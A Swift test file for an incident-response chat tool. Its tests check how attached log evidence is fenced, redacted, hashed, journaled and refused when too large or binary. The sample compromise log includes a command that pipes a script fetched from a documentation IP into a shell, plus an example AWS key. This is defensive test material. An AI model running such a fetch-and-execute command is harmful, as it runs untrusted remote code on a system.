import ConversationCore
import Foundation
@testable import IncidentREPLKit
import LLMClients
import LoopbackProvider
import Safeguards
import Testing

@Suite("/file: evidence sent fenced and redacted, journaled with its hash, refused when it does not fit")
struct EvidenceSessionTests {
    static let log = """
        Nov 30 10:00:01 web01 sshd[811]: Accepted password for deploy from 203.0.113.45 port 52344 ssh2
        Nov 30 10:00:07 web01 bash[902]: export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
        Nov 30 10:00:09 web01 bash[902]: curl -s http://198.51.100.7/x.sh | sh

        """

    /// The content of the last user message of a recorded OpenAI-format request.
    static func lastUserContent(_ request: RecordedRequest) -> String? {
        request.json()?["messages"]?.array?.last { $0["role"]?.string == "user" }?["content"]?.string
    }

    @Test func aLogWithAnIPAndAnAWSKeyIsSentFencedWithTheKeyRedactedAndJournaledWithItsHash() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/auth.log"
        writeFile(path, Array(Self.log.utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["Looks like a compromise."]) })
        defer { server.stop() }
        let store = SessionStore(directory: directory.path + "/sessions")
        let run = try await SessionHarness.run(
            .openai, lines: ["/file \(path)", "What happened on web01?"], server: server
        ) { session in
            session.outbound.mode = .on  // loopback is not redacted by default; a remote provider would be
            session.journal = try? store.create(named: "evidence", start: sampleStart)
        }
        #expect(run.session.failedTurns == 0, "\(run.stderr)")
        #expect(run.stdout.contains("attached auth.log: 3 lines"))
        let request = try #require(run.requests.last)
        let content = try #require(Self.lastUserContent(request))
        // Fenced like a paste: the whole message, evidence included, sits inside the nonce fence.
        let open = try #require(content.range(of: "<<<UNTRUSTED-DATA-"))
        let nonce = String(content[open.upperBound...].prefix(16))
        // The closing line is the last occurrence (the preamble names it too).
        let close = try #require(content.range(of: "\nUNTRUSTED-DATA-\(nonce)>>>", options: .backwards))
        let ip = try #require(content.range(of: "203.0.113.45"))
        #expect(open.upperBound <= ip.lowerBound && ip.upperBound <= close.lowerBound)
        #expect(content.contains("What happened on web01?"))
        #expect(content.contains("----- attached file: auth.log"))
        #expect(!request.bodyText.contains("AKIAIOSFODNN7EXAMPLE"))
        #expect(content.contains("[REDACTED:"))
        let sha = Digest.sha256Hex(Array(Self.log.utf8))
        #expect(content.contains(sha))

        // The journal holds the evidence (content and hash) before the question, and replays exactly.
        let sent = run.session.conversation.messages[0].text
        run.session.journal = nil  // closes it
        let journalText = String(decoding: try fileBytes(directory.path + "/sessions/evidence.jsonl"), as: UTF8.self)
        #expect(journalText.contains("\"type\":\"evidence\""))
        #expect(journalText.contains("\"sha256\":\"\(sha)\""))
        let replayed = try store.load("evidence")
        let evidence = try #require(replayed.evidence.first)
        #expect(evidence.file.sha256 == sha)
        #expect(evidence.file.size == Self.log.utf8.count)
        #expect(evidence.file.text.contains("AKIAIOSFODNN7EXAMPLE"))  // the journal keeps what the analyst had
        #expect(evidence.messageID == 0)
        #expect(replayed.conversation.messages.first?.text == sent)

        // The exported notes list the evidence with its hash.
        let notes = IncidentNotes.markdown(for: replayed, facts: [], utcOffsetSeconds: 0)
        #expect(notes.contains("## Evidence"))
        #expect(notes.contains(sha))

        // Its indicators are the analyst's facts, from an evidence file.
        let facts = run.session.conversation.facts
        let position = try #require(facts.indicators.firstIndex { $0.value == "203.0.113.45" })
        #expect(facts.provenance[position].wasInEvidence)
        #expect(facts.provenance[position].isFromAnalyst)
        #expect(facts.provenance[position].label == "evidence #1")
    }

    @Test func aFileTooBigForTheWindowSendsNothingAndSaysWhatItNeedsAndWhatIsFree() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/big.log"
        let lines = (1...400).map {
            "Nov 30 10:\($0 % 60):00 web01 sshd[811]: Failed password for invalid user admin\($0) from 198.51.100.\($0 % 250) port 4\($0) ssh2"
        }
        writeFile(path, Array(lines.joined(separator: "\n").utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let run = try await SessionHarness.run(
            .openai, lines: ["/file \(path)", "What happened?"], server: server, contextWindow: 1024, maxTokens: 128)
        // The file never left: the question went alone.
        #expect(run.requests.count == 1)
        for request in run.requests { #expect(!request.bodyText.contains("invalid user admin")) }
        #expect(run.session.failedTurns == 1)
        #expect(run.session.evidence.staged.isEmpty)
        let numbers = try #require(run.stderr.firstMatch(of: /needs about ([0-9,]+) tokens and ([0-9,]+) are free/))
        let needed = try #require(Int(numbers.1.filter(\.isNumber)))
        let free = try #require(Int(numbers.2.filter(\.isNumber)))
        #expect(needed > 5_000)
        #expect(free > 0 && free < 1024)
        #expect(run.stderr.contains("nothing was attached or sent"))
        #expect(run.stderr.contains("/file \(path):1-"))
        #expect(run.stderr.contains("/file --tail "))
        #expect(run.stderr.contains("/file --grep PATTERN \(path)"))
        #expect(run.stderr.contains("--context-window"))
    }

    @Test func theSuggestedLineRangeFitsAndIsSent() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/big.log"
        let lines = (1...400).map { "Nov 30 10:00:00 web01 sshd[811]: Failed password for invalid user u\($0) from 198.51.100.\($0 % 250)" }
        writeFile(path, Array(lines.joined(separator: "\n").utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let first = try await SessionHarness.run(
            .openai, lines: ["/file \(path)"], server: server, contextWindow: 2048, maxTokens: 128)
        let suggestion = try #require(first.stderr.firstMatch(of: /\/file (\S+:1-[0-9]+)/))
        let second = try await SessionHarness.run(
            .openai, lines: ["/file \(suggestion.1)", "Which users were tried?"], server: server, contextWindow: 2048, maxTokens: 128)
        #expect(second.session.failedTurns == 0, "\(second.stderr)")
        let content = try #require(second.requests.last.flatMap(Self.lastUserContent))
        #expect(content.contains("invalid user u1 "))
        #expect(content.contains("lines 1-"))
    }

    @Test func aResumedSessionSendsTheEvidenceByteForByteAndKnowsWhereItsIndicatorsCameFrom() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/auth.log"
        writeFile(path, Array(Self.log.utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["Noted."]) })
        defer { server.stop() }
        let store = SessionStore(directory: directory.path + "/sessions")
        let first = try await SessionHarness.run(.openai, lines: ["/file \(path)", "What happened on web01?"], server: server) {
            $0.outbound.mode = .on
            $0.journal = try? store.create(named: "resumable", start: sampleStart)
        }
        let fenceKey = first.session.outbound.fenceKey
        first.session.journal = nil
        let sentFirst = try #require(first.requests.last?.json()?["messages"]?.array?.first { $0["role"]?.string == "user" }?["content"]?.string)
        writeFile(path, Array("the file changed since\n".utf8))  // what was sent is in the journal, not re-read
        let second = try await SessionHarness.run(.openai, lines: ["And the curl line?", "/iocs ip"], server: server) { session in
            session.outbound.mode = .on
            session.outbound.adopt(fenceKey: fenceKey)
            if let (replayed, journal) = try? store.resume("resumable") {
                session.adopt(replayed)
                session.journal = journal
            }
        }
        second.session.journal = nil
        let messages = try #require(second.requests.last?.json()?["messages"]?.array)
        let sentAgain = try #require(messages.first { $0["role"]?.string == "user" }?["content"]?.string)
        #expect(sentAgain == sentFirst)
        #expect(second.stdout.contains("203.0.113[.]45  (evidence auth.log; #1)"))
    }

    @Test func aQuestionThatNoLongerFitsWithTheEvidenceIsNotSentAndTheEvidenceWaits() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/web.log"
        let lines = (1...20).map { "GET /index.php?id=\($0) from 198.51.100.\($0) status 200" }
        writeFile(path, Array(lines.joined(separator: "\n").utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let longQuestion = "Please look at this carefully: " + String(repeating: "context about the web tier and its load balancers ", count: 60)
        let run = try await SessionHarness.run(
            .openai, lines: ["/file \(path)", longQuestion, "/file"], server: server, contextWindow: 1024, maxTokens: 128)
        #expect(run.stdout.contains("attached web.log: 20 lines"))
        #expect(run.requests.isEmpty)
        #expect(run.stderr.contains("does not fit"))
        #expect(run.stderr.contains("Your question was not sent; the evidence is still attached"))
        #expect(run.stdout.contains("waiting for your next question:"))
        #expect(run.session.conversation.messages.isEmpty)
    }

    @Test func retryAsksTheSameQuestionWithTheSameEvidence() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/auth.log"
        writeFile(path, Array(Self.log.utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let run = try await SessionHarness.run(.openai, lines: ["/file \(path)", "What happened?", "/retry"], server: server)
        #expect(run.requests.count == 2)
        let messages = run.session.conversation.messages
        #expect(messages.count == 4)
        #expect(messages[2].text == messages[0].text)
        #expect(run.session.evidence.attached.map(\.messageID) == [0, 2])
    }

    @Test func evidenceNoQuestionFollowedIsSaidToBeUnsent() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/auth.log"
        writeFile(path, Array(Self.log.utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let run = try await SessionHarness.run(.openai, lines: ["/file \(path)", "/file"], server: server)
        #expect(run.requests.isEmpty)
        #expect(run.stdout.contains("waiting for your next question:\n  \(path)  "))
        #expect(run.stderr.contains("not sent (no question followed): auth.log"))
    }

    @Test func aBinaryFileIsRefusedAndNothingIsSent() async throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/dump.bin"
        writeFile(path, [0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00] + Array("secret 203.0.113.99".utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["ok"]) })
        defer { server.stop() }
        let run = try await SessionHarness.run(.openai, lines: ["/file \(path)", "And this?"], server: server)
        #expect(run.stderr.contains("binary data (a NUL byte at offset 7)"))
        #expect(run.session.failedTurns == 1)
        #expect(!(run.requests.last?.bodyText.contains("203.0.113.99") ?? true))
    }
}
